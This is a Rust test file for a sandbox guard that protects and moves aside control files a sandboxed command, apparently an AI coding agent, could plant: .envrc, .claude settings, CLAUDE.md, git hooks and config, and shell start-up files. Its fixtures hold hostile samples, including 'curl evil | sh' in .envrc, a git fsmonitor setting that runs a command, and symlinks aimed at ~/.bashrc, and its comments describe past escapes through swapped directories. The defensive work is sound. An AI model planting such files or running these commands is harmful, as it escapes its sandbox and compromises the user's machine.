//! `pinfold_plan::control` on real directories: which control files a run keeps read-only,
//! which it watches, and what it moves aside afterwards. Nothing here starts a sandbox; the
//! files a command would create are created by the test between `before` and `after`.

use std::fs;
use std::path::{Path, PathBuf};

use pinfold_plan::control::{self, Family, Guard, PLANTED_SUFFIX};

struct Fx {
    _tmp: tempfile::TempDir,
    home: PathBuf,
    proj: PathBuf,
}

/// A home and a project with a git repository (as `git init` makes it) beside it.
fn fx() -> Fx {
    let tmp = tempfile::tempdir().unwrap();
    let root = fs::canonicalize(tmp.path()).unwrap();
    let home = root.join("home");
    let proj = root.join("proj");
    for d in [".git/objects/info", ".git/refs/heads", ".git/hooks", ".git/info"] {
        fs::create_dir_all(proj.join(d)).unwrap();
    }
    fs::write(proj.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(proj.join(".git/config"), "[core]\n\trepositoryformatversion = 0\n").unwrap();
    fs::write(proj.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
    fs::create_dir_all(home.join(".cache/pip")).unwrap();
    fs::create_dir_all(home.join(".cargo/registry")).unwrap();
    fs::write(home.join(".gitconfig"), "").unwrap();
    fs::write(home.join(".bashrc"), "").unwrap();
    Fx { _tmp: tmp, home, proj }
}

impl Fx {
    fn guard(&self) -> Guard {
        Guard::before(&self.proj, &self.proj, Some(&self.home), None, &[self.proj.clone()], &[])
    }
}

fn has(list: &[PathBuf], p: impl AsRef<Path>) -> bool {
    list.iter().any(|x| x == p.as_ref())
}

#[test]
fn existing_control_files_are_read_only() {
    let f = fx();
    fs::create_dir_all(f.proj.join(".claude")).unwrap();
    fs::create_dir_all(f.proj.join(".vscode")).unwrap();
    fs::write(f.proj.join(".envrc"), "export A=1\n").unwrap();
    fs::write(f.proj.join("CLAUDE.md"), "# notes\n").unwrap();
    let g = f.guard();
    for p in [".claude", ".vscode", ".envrc", "CLAUDE.md", ".git/config", ".git/hooks", ".git/info"] {
        assert!(has(&g.protect, f.proj.join(p)), "{p} not protected: {:?}", g.protect);
    }
    // What does not exist is watched, not protected (a placeholder would show in `git status`).
    for p in [".mcp.json", ".git/commondir", ".husky"] {
        assert!(!has(&g.protect, f.proj.join(p)), "{p}");
    }
    // Outside every writable root nothing is needed: the sandbox cannot write there anyway.
    assert!(!g.protect.iter().any(|p| p.starts_with(&f.home)), "{:?}", g.protect);
}

#[test]
fn control_files_a_run_creates_are_moved_aside() {
    let f = fx();
    fs::create_dir_all(f.proj.join(".github")).unwrap();
    let g = f.guard();
    // What a sandboxed command might plant.
    fs::write(f.proj.join(".envrc"), "curl evil | sh\n").unwrap();
    fs::create_dir_all(f.proj.join(".claude")).unwrap();
    fs::write(f.proj.join(".claude/settings.json"), "{}").unwrap();
    fs::create_dir_all(f.proj.join(".github/hooks")).unwrap();
    fs::write(f.proj.join(".git/commondir"), "evil\n").unwrap();
    // And ordinary work, which stays.
    fs::write(f.proj.join("main.rs"), "fn main() {}\n").unwrap();
    fs::create_dir_all(f.proj.join("target")).unwrap();
    let planted = g.after();
    let paths: Vec<&PathBuf> = planted.iter().map(|p| &p.path).collect();
    for p in [".envrc", ".claude", ".github/hooks", ".git/commondir"] {
        assert!(paths.contains(&&f.proj.join(p)), "{p} not moved: {paths:?}");
        assert!(!f.proj.join(p).exists(), "{p} still there");
        let aside = f.proj.join(format!("{p}{PLANTED_SUFFIX}"));
        assert!(aside.exists(), "{} missing", aside.display());
    }
    assert_eq!(fs::read_to_string(f.proj.join(format!(".envrc{PLANTED_SUFFIX}"))).unwrap(), "curl evil | sh\n", "kept, not deleted");
    assert_eq!(planted.iter().find(|p| p.path.ends_with(".git/commondir")).unwrap().family, Family::Git);
    assert!(f.proj.join("main.rs").exists() && f.proj.join("target").exists());
    assert_eq!(planted.len(), 4, "{paths:?}");
    // Nothing new, nothing moved; a name already taken gets the next suffix.
    let g = f.guard();
    assert!(g.after().is_empty());
    fs::write(f.proj.join(".envrc"), "again\n").unwrap();
    let moved = g.after();
    assert_eq!(moved[0].moved_to.as_deref(), Some(f.proj.join(format!(".envrc{PLANTED_SUFFIX}-2")).as_path()));
}

#[test]
fn a_dangling_link_is_watched_like_a_missing_file() {
    let f = fx();
    std::os::unix::fs::symlink("notes/agent-settings.json", f.proj.join(".mcp.json")).unwrap();
    let g = f.guard();
    assert!(!has(&g.protect, f.proj.join(".mcp.json")));
    fs::create_dir_all(f.proj.join("notes")).unwrap();
    fs::write(f.proj.join("notes/agent-settings.json"), "{}").unwrap();
    let planted = g.after();
    assert_eq!(planted.len(), 1, "{planted:?}");
    assert_eq!(planted[0].path, f.proj.join(".mcp.json"));
}

#[test]
fn new_repositories_in_the_git_directory_are_moved_aside() {
    let f = fx();
    fs::create_dir_all(f.proj.join(".git/modules/lib")).unwrap();
    fs::write(f.proj.join(".git/modules/lib/config"), "").unwrap();
    let g = f.guard();
    assert!(has(&g.protect, f.proj.join(".git/modules/lib/config")));
    fs::create_dir_all(f.proj.join(".git/modules/evil")).unwrap();
    fs::create_dir_all(f.proj.join(".git/worktrees/evil")).unwrap();
    let planted = g.after();
    let paths: Vec<&PathBuf> = planted.iter().map(|p| &p.path).collect();
    assert!(paths.contains(&&f.proj.join(".git/modules/evil")), "{paths:?}");
    assert!(paths.contains(&&f.proj.join(".git/worktrees")), "{paths:?}");
    assert!(f.proj.join(".git/modules/lib").exists());
}

#[test]
fn the_hooks_path_the_configuration_names_is_protected() {
    let f = fx();
    fs::create_dir_all(f.proj.join(".githooks")).unwrap();
    fs::write(f.proj.join(".git/config"), "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../shared.gitconfig\n").unwrap();
    fs::write(f.proj.join("shared.gitconfig"), "").unwrap();
    let g = f.guard();
    assert!(has(&g.protect, f.proj.join(".githooks")), "{:?}", g.protect);
    assert!(has(&g.protect, f.proj.join("shared.gitconfig")), "{:?}", g.protect);
}

#[test]
fn a_new_repository_is_kept_only_when_it_runs_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let proj = fs::canonicalize(tmp.path()).unwrap();
    // `git init`'s own files stay.
    let g = Guard::before(&proj, &proj, None, None, &[proj.clone()], &[]);
    fs::create_dir_all(proj.join(".git/hooks")).unwrap();
    fs::write(proj.join(".git/hooks/pre-push.sample"), "").unwrap();
    fs::write(proj.join(".git/config"), "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote \"origin\"]\n\turl = ../up\n").unwrap();
    assert!(g.after().is_empty());
    fs::remove_dir_all(proj.join(".git")).unwrap();
    // A configuration that runs a program, or a hook, is moved aside whole.
    for (file, text) in [("config", "[core]\n\tfsmonitor = \"touch pwn #\"\n"), ("hooks/post-checkout", "#!/bin/sh\n")] {
        let g = Guard::before(&proj, &proj, None, None, &[proj.clone()], &[]);
        fs::create_dir_all(proj.join(".git/hooks")).unwrap();
        fs::write(proj.join(".git").join(file), text).unwrap();
        let planted = g.after();
        assert_eq!(planted.len(), 1, "{file}: {planted:?}");
        assert!(!proj.join(".git").exists() && proj.join(format!(".git{PLANTED_SUFFIX}")).exists(), "{file}");
        fs::remove_dir_all(proj.join(format!(".git{PLANTED_SUFFIX}"))).unwrap();
    }
}

#[test]
fn the_home_directory_as_the_project_keeps_its_dotfiles_but_the_named_caches() {
    let f = fx();
    let g = Guard::before(&f.home, &f.home, Some(&f.home), None, &[f.home.clone()], &[]);
    for p in [".gitconfig", ".bashrc"] {
        assert!(has(&g.protect, f.home.join(p)), "{p}: {:?}", g.protect);
    }
    // The named caches stay writable; `.cache` and `.cargo` themselves are not protected
    // whole, only their other entries.
    for p in [".cache/pip", ".cargo/registry", ".cache", ".cargo"] {
        assert!(!has(&g.protect, f.home.join(p)), "{p} protected");
    }
    // New start-up files and new caches outside the named ones are moved aside; new work is not.
    fs::write(f.home.join(".zshenv"), "evil\n").unwrap();
    fs::create_dir_all(f.home.join(".cache/pre-commit")).unwrap();
    fs::write(f.home.join(".cache/pip/wheel"), "").unwrap();
    fs::create_dir_all(f.home.join("newproject")).unwrap();
    let planted = g.after();
    let paths: Vec<&PathBuf> = planted.iter().map(|p| &p.path).collect();
    assert!(paths.contains(&&f.home.join(".zshenv")), "{paths:?}");
    assert!(paths.contains(&&f.home.join(".cache/pre-commit")), "{paths:?}");
    assert_eq!(planted.len(), 2, "{paths:?}");
    assert!(f.home.join("newproject").exists() && f.home.join(".cache/pip/wheel").exists());
}

#[test]
fn lifted_files_are_neither_protected_nor_watched_nor_refused() {
    let f = fx();
    fs::write(f.proj.join("CLAUDE.md"), "").unwrap();
    let lifted = [f.proj.join("CLAUDE.md"), f.proj.join(".envrc")];
    let g = Guard::before(&f.proj, &f.proj, Some(&f.home), None, &[f.proj.clone()], &lifted);
    assert!(!has(&g.protect, f.proj.join("CLAUDE.md")));
    fs::write(f.proj.join(".envrc"), "").unwrap();
    assert!(g.after().is_empty());
    assert_eq!(control::is_control(&f.proj, &f.proj, None, &lifted, &f.proj.join("CLAUDE.md")), None);
    assert_eq!(control::is_control(&f.proj, &f.proj, None, &[], &f.proj.join("CLAUDE.md")), Some(Family::Agent));
    assert_eq!(control::is_control(&f.proj, &f.proj, None, &[], &f.proj.join(".git/hooks/pre-commit")), Some(Family::Git));
    assert_eq!(control::is_control(&f.proj, &f.proj, None, &[], &f.proj.join(".git/objects/ab")), None);
    assert_eq!(control::is_control(&f.proj, &f.proj, None, &[], &f.proj.join("src/main.rs")), None);
}

/// A repository made inside the project and staged as a gitlink is found in the index in each
/// format git writes (2, 3 with extended flags, 4 with compressed paths).
#[test]
fn nested_repositories_staged_as_gitlinks_are_found_in_every_index_format() {
    let git = |dir: &Path, args: &[&str]| {
        let out = std::process::Command::new("git")
            .arg("-C")
            .arg(dir)
            .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    };
    for version in ["2", "3", "4"] {
        let tmp = tempfile::tempdir().unwrap();
        let proj = fs::canonicalize(tmp.path()).unwrap();
        git(&proj, &["init", "-q"]);
        for f in ["a/long/path/one.txt", "a/long/path/two.txt", "b.txt"] {
            fs::create_dir_all(proj.join(f).parent().unwrap()).unwrap();
            fs::write(proj.join(f), f).unwrap();
        }
        git(&proj, &["add", "."]);
        git(&proj, &["commit", "-q", "-m", "one"]);
        if version == "3" {
            // An intent-to-add entry sets the extended flags, which only format 3 keeps.
            fs::write(proj.join("later.txt"), "x").unwrap();
            git(&proj, &["add", "-N", "later.txt"]);
        }
        git(&proj, &["update-index", "--index-version", version]);
        let g = Guard::before(&proj, &proj, None, None, &[proj.clone()], &[]);
        let sub = proj.join("a/long/sub");
        fs::create_dir_all(&sub).unwrap();
        git(&sub, &["init", "-q"]);
        git(&sub, &["commit", "-q", "--allow-empty", "-m", "x"]);
        git(&proj, &["add", "a/long/sub"]);
        let planted = g.after();
        assert_eq!(planted.iter().map(|p| p.path.clone()).collect::<Vec<_>>(), [sub.join(".git")], "index format {version}");
        assert!(!sub.join(".git").exists() && sub.join(format!(".git{PLANTED_SUFFIX}")).exists());
    }
}

/// The working directory `sub` swapped for a link to the home directory after the run was
/// set up (by a command beside it): the home directory's `.envrc` and `.claude`, which a check
/// through the link would take for files the run planted in `sub`, stay where they are, and
/// an `.envrc` planted in the real `sub` is still moved aside. (Found by an outside attack:
/// `~/.claude` and `~/.envrc` moved aside, and a planted `.envrc` left in place.)
#[test]
fn a_directory_swapped_for_a_link_after_set_up_moves_nothing_outside() {
    let f = fx();
    let sub = f.proj.join("sub");
    fs::create_dir_all(&sub).unwrap();
    fs::write(f.home.join(".envrc"), "home's\n").unwrap();
    fs::create_dir_all(f.home.join(".claude")).unwrap();
    let g = Guard::before(&f.proj, &sub, None, None, &[f.proj.clone()], &[]);
    assert_eq!(g.swapped, None);
    // The run plants `.envrc` in `sub`; then `sub` is swapped for a link to the home directory.
    fs::write(sub.join(".envrc"), "planted\n").unwrap();
    fs::rename(&sub, f.proj.join("sub-real")).unwrap();
    std::os::unix::fs::symlink(&f.home, &sub).unwrap();
    let moved = g.after();
    assert_eq!(fs::read_to_string(f.home.join(".envrc")).unwrap(), "home's\n", "the home directory's .envrc was moved: {moved:?}");
    assert!(f.home.join(".claude").is_dir(), "the home directory's .claude was moved: {moved:?}");
    assert!(!f.proj.join("sub-real/.envrc").exists(), "the planted .envrc stayed: {moved:?}");
    assert!(f.proj.join(format!("sub-real/.envrc{PLANTED_SUFFIX}")).exists(), "{moved:?}");
    assert!(moved.iter().any(|p| p.path == sub.join(".envrc")), "{moved:?}");
    // Set up while the link stands: the run does not start.
    let g = Guard::before(&f.proj, &sub, None, None, &[f.proj.clone()], &[]);
    assert_eq!(g.swapped, Some(sub.clone()));
}

/// Links a run plants inside the git directory (`COMMIT_EDITMSG -> ~/.bashrc`, `logs -> ~`),
/// and `refs/heads` replaced by a link to the home directory: each is moved aside, so the
/// user's own git, outside the sandbox, never writes where they lead. A link that was there
/// before the run stays. (Found by an outside attack: the user's next `git commit` overwrote
/// `~/.bashrc`, and wrote `~/master`.)
#[test]
fn links_planted_in_the_git_directory_are_moved_aside() {
    let f = fx();
    fs::create_dir_all(f.proj.join(".git/logs/refs/heads")).unwrap();
    std::os::unix::fs::symlink("elsewhere", f.proj.join(".git/old-link")).unwrap();
    let g = f.guard();
    std::os::unix::fs::symlink(f.home.join(".bashrc"), f.proj.join(".git/COMMIT_EDITMSG")).unwrap();
    fs::remove_dir_all(f.proj.join(".git/logs")).unwrap();
    std::os::unix::fs::symlink(&f.home, f.proj.join(".git/logs")).unwrap();
    fs::remove_dir_all(f.proj.join(".git/refs/heads")).unwrap();
    std::os::unix::fs::symlink(&f.home, f.proj.join(".git/refs/heads")).unwrap();
    let moved = g.after();
    for p in [".git/COMMIT_EDITMSG", ".git/logs", ".git/refs/heads"] {
        assert!(moved.iter().any(|m| m.path == f.proj.join(p) && m.moved_to.is_some()), "{p} not moved aside: {moved:?}");
        assert!(fs::symlink_metadata(f.proj.join(p)).is_err(), "{p} still there");
    }
    assert!(fs::symlink_metadata(f.proj.join(".git/old-link")).is_ok(), "a link from before the run was moved: {moved:?}");
    assert!(f.home.join(".bashrc").exists());
}
